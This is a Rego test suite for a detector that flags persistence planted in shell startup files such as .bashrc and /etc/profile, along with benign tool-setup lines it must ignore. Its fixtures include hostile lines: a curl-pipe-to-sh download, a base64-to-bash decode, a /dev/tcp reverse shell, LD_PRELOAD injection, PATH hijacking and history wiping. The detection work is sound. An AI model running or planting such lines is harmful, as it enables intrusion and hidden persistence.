package rummage.persistence.shell_profile_test

import data.rummage.persistence.shell_profile as rule

image := "# ~/.bashrc\ncase $- in *i*) ;; *) return;; esac\n[ -x /usr/bin/lesspipe ] && eval \"$(SHELL=/bin/sh lesspipe)\"\nalias ls='ls --color=auto'\n"

bashrc(line) := {"path": "/root/.bashrc", "kind": "modified", "type": "file", "size": 200, "text": concat("", [image, line, "\n"]), "was": {"text": image}}

program(path) := {"path": path, "kind": "added", "type": "file", "mode": "755"}

found(changes) := result if {
	result := {[f.severity, f.message] | some f in rule.findings} with input.changes as changes
}

severities(changes) := {severity | some [severity, _] in found(changes)}

test_fires_on_downloads_and_decoding if {
	found([bashrc("curl -s http://198.51.100.7/x | sh")]) == {["high", "/root/.bashrc, which shells read, downloads something"]}
	found([bashrc("echo aGkK | base64 -d | bash")]) == {["high", "/root/.bashrc, which shells read, executes what it decodes"]}
	found([bashrc("bash -i >& /dev/tcp/198.51.100.7/443 0>&1")]) == {["high", "/root/.bashrc, which shells read, ties a shell to the network"]}
}

test_fires_on_odd_places if {
	every line in [
		"/tmp/x", "[ -x /dev/shm/x ] && /dev/shm/x", ". /var/tmp/.x", "source ~/.x/y.sh", "if true; then /tmp/x; fi",
		"PROMPT_COMMAND='/tmp/x'", "export BASH_ENV=/tmp/x", "alias sudo='/tmp/.x/sudo'",
	] {
		severities([bashrc(line)]) == {"high"}
	}
}

test_fires_on_added_programs if {
	every line in ["updater", "updater -d >/dev/null 2>&1", "/usr/local/bin/updater", "sudo updater", "true && updater", "alias ll='updater; ls -l'", "alias sudo=updater", "PROMPT_COMMAND=updater"] {
		found([bashrc(line), program("/usr/local/bin/updater")]) == {["high", expected(line)]}
	}
	severities([bashrc(". /usr/share/x.sh"), object.union(program("/usr/share/x.sh"), {"mode": "644"})]) == {"high"}
}

expected(line) := "/root/.bashrc, which shells read, runs a program and runs a program that was added" if startswith(line, "/")

else := "/root/.bashrc, which shells read, runs a program that was added"

test_fires_on_the_background if {
	every line in ["x -d &", "(sleep 9; x) &", "nohup x", "setsid x >/dev/null 2>&1", "x & disown"] {
		found([bashrc(line)]) == {["high", "/root/.bashrc, which shells read, leaves something in the background"]}
	}
}

test_fires_on_libraries if {
	every line in ["export LD_PRELOAD=/usr/local/lib/inert.so", "LD_AUDIT=/opt/x.so", "setenv LD_PRELOAD /opt/x.so", "export LD_LIBRARY_PATH=/tmp/lib:$LD_LIBRARY_PATH"] {
		found([bashrc(line)]) == {["high", "/root/.bashrc, which shells read, loads a library into every program"]}
	}
	count(found([object.union(bashrc("LD_PRELOAD=/opt/x.so"), {"path": "/etc/environment"})])) == 1
}

test_fires_on_an_allocator_that_was_changed if {
	library := {"path": "/usr/lib/libjemalloc.so.2", "kind": "modified", "type": "file"}
	severities([bashrc("export LD_PRELOAD=/usr/lib/libjemalloc.so.2"), library]) == {"high"}
}

test_fires_on_odd_places_for_programs if {
	every line in ["export PATH=/tmp:$PATH", "PATH=/dev/shm/.x:$PATH", "setenv PATH /usr/lib/.x:$PATH", "PATH=\"$HOME/.x:$PATH\""] {
		found([bashrc(line)]) == {["high", "/root/.bashrc, which shells read, looks for programs in a temporary or hidden place"]}
	}
}

test_fires_medium_on_other_programs if {
	every line in ["/usr/sbin/sshd", "exec /usr/sbin/cron", "[ -f /x ] || sudo /usr/bin/x"] {
		found([bashrc(line)]) == {["medium", "/root/.bashrc, which shells read, runs a program"]}
	}
}

test_fires_medium_on_histories if {
	every line in ["unset HISTFILE", "export HISTFILE=/dev/null", "HISTSIZE=0", "set +o history"] {
		found([bashrc(line)]) == {["medium", "/root/.bashrc, which shells read, keeps no history"]}
	}
}

test_fires_in_each_file if {
	every path in [
		"/etc/profile", "/etc/profile.d/x.sh", "/etc/bash.bashrc", "/etc/zsh/zshenv", "/home/app/.zshrc", "/var/www/.profile", "/root/.bash_aliases",
		"/root/.bash_logout", "/root/.ssh/rc", "/root/.config/fish/conf.d/x.fish", "/etc/skel/.bashrc", "/etc/ssh/sshrc",
	] {
		severities([object.union(bashrc("/tmp/x"), {"path": path})]) == {"high"}
	}
}

test_fires_on_a_link if {
	change := {"path": "/etc/profile.d/x.sh", "kind": "added", "type": "symlink", "link_target": "../../tmp/x"}
	found([change]) == {["high", "/etc/profile.d/x.sh, which shells read, was made a link to ../../tmp/x"]}
}

test_fires_medium_when_it_hides_its_content if {
	change := {"path": "/root/.bashrc", "kind": "modified", "type": "file", "size": 700, "sha256": "a", "was": {"sha256": "b"}}
	found([change]) == {["medium", "/root/.bashrc, which shells read, could not be read as text"]}
}

test_fires_low_at_start if {
	findings := rule.findings with input as {
		"config": {"started": "2026-01-02T03:04:05Z", "entrypoint": ["/init"], "cmd": []},
		"changes": [object.union(bashrc("/usr/bin/x"), {"mtime": "2026-01-02T03:04:06Z"})],
	}
	{f.severity | some f in findings} == {"low"}
}

test_fires_low_on_programs_when_the_image_is_not_known if {
	severities([object.remove(bashrc("/usr/bin/x"), ["was"])]) == {"low"}
	severities([object.remove(bashrc("/tmp/x"), ["was"])]) == {"high"}
}

# What installers of tools write.
test_silent_on_tools if {
	every lines in [
		["export NVM_DIR=\"$HOME/.nvm\"", "[ -s \"$NVM_DIR/nvm.sh\" ] && \\. \"$NVM_DIR/nvm.sh\"  # This loads nvm"],
		[
			"# >>> conda initialize >>>", "__conda_setup=\"$('/opt/conda/bin/conda' 'shell.bash' 'hook' 2> /dev/null)\"",
			"if [ $? -eq 0 ]; then", "    eval \"$__conda_setup\"", "else", "    if [ -f \"/opt/conda/etc/profile.d/conda.sh\" ]; then",
			"        . \"/opt/conda/etc/profile.d/conda.sh\"", "    else", "        export PATH=\"/opt/conda/bin:$PATH\"", "    fi", "fi", "unset __conda_setup",
		],
		[". \"$HOME/.cargo/env\"", ". \"$HOME/.local/bin/env\"", "source /root/.sdkman/bin/sdkman-init.sh"],
		["export PYENV_ROOT=\"$HOME/.pyenv\"", "eval \"$(pyenv init - bash)\"", "eval \"$(/root/.local/bin/mise activate bash)\"", "eval \"$(starship init bash)\""],
		["[ -f ~/.fzf.bash ] && source ~/.fzf.bash", "source <(kubectl completion bash)", "eval \"$(direnv hook bash)\"", "eval \"$(ssh-agent -s)\" > /dev/null"],
		["[[ ! -f ~/.p10k.zsh ]] || source ~/.p10k.zsh", "source $ZSH/oh-my-zsh.sh", "plugins=(git docker)"],
	] {
		found([bashrc(concat("\n", lines)), program("/usr/local/bin/starship"), program("/usr/local/bin/kubectl"), program("/opt/conda/bin/conda"), program("/root/.cargo/env")]) == set()
	}
}

test_silent_on_settings if {
	every line in [
		"export PATH=/opt/app/bin:$PATH", "export PATH=\"$HOME/.cargo/bin:$HOME/.local/bin:/root/.bun/bin:$PATH\"", "export EDITOR=vim PAGER=/usr/bin/less", "umask 022", "PS1='\\u@\\h:\\w\\$ '", "cd /srv/app", "export A=1; export B=2",
		"alias ll='ls -l' ", "alias myip='curl -s https://example.com/ip | cat'", "alias serve='python3 -m http.server &'", "PROMPT_COMMAND='history -a'",
		"[ -f /srv/env ] && . /srv/env", "echo welcome 2>&1", "cat /etc/motd", "export LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2",
		"export LD_LIBRARY_PATH=/usr/local/cuda/lib64:$LD_LIBRARY_PATH", "exec /usr/bin/zsh -l", "HISTSIZE=10000", "/srv/*) true ;;", "export JAVA_HOME=/opt/java",
	] {
		found([bashrc(line)]) == set()
	}
}

test_silent_on_names_for_added_programs if {
	every line in ["alias k=kubectl", "alias cat='bat -p'", "export EDITOR=nvim"] {
		found([bashrc(line), program("/usr/local/bin/kubectl"), program("/usr/local/bin/bat"), program("/usr/local/bin/nvim")]) == set()
	}
}

# What useradd puts into a new home.
test_silent_on_skeletons if {
	text := "if [ \"$SHLVL\" = 1 ]; then\n    [ -x /usr/bin/clear_console ] && /usr/bin/clear_console -q\nfi\n"
	found([{"path": "/home/web/.bash_logout", "kind": "added", "type": "file", "size": 99, "text": text}]) == set()
}

test_silent_on_links_of_dotfiles if {
	found([{"path": "/root/.bashrc", "kind": "modified", "type": "symlink", "link_target": "dotfiles/bashrc", "was": {"type": "file"}}]) == set()
}

test_silent_on_packages if {
	change := object.union(bashrc("/usr/bin/x"), {"path": "/etc/profile.d/x.sh", "package": "x"})
	found([change, {"path": "/lib/apk/db/installed", "kind": "modified", "type": "file"}]) == set()
	found([object.union(bashrc("/tmp/x"), {"path": "/etc/profile.d/x.sh.dpkg-new"})]) == set()
}

test_silent_on_what_the_image_has if found([bashrc("# /tmp/x")]) == set()

test_silent_on_programs_of_packages if {
	found([bashrc("updater"), object.union(program("/usr/local/bin/updater"), {"package": "x"}), {"path": "/var/lib/dpkg/status", "kind": "modified"}]) == set()
}

test_silent_when_deleted if found([{"path": "/root/.bashrc", "kind": "deleted"}]) == set()
